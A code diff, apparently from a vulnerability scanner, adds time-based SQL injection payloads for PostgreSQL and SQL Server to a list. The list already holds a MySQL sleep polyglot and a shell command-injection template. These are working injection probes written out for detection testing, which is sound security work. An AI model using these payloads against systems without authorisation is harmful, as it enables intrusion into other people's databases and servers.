@@ -81,10 +81,13 @@ std::pair<int, int> randomFactors(std::mt19937_64& random) {
 }
 
 /// Time-based payloads: {o} the original value, {d} the delay in seconds. The first is the
-/// MySQL/MariaDB polyglot that sleeps from numeric, single- and double-quoted contexts.
+/// MySQL/MariaDB polyglot that sleeps from numeric, single- and double-quoted contexts; then
+/// PostgreSQL and SQL Server stacked queries after a closing quote; the last is the shell.
 constexpr const char* kTimeTemplates[] = {
     "if(now()=sysdate(),sleep({d}),0)/*'XOR(if(now()=sysdate(),sleep({d}),0))OR'\"XOR(if(now()="
     "sysdate(),sleep({d}),0))OR\"*/",
+    "{o}';SELECT pg_sleep({d})--",
+    "{o}';WAITFOR DELAY '0:0:{d}'--",
     "{o};sleep {d};",
 };
 
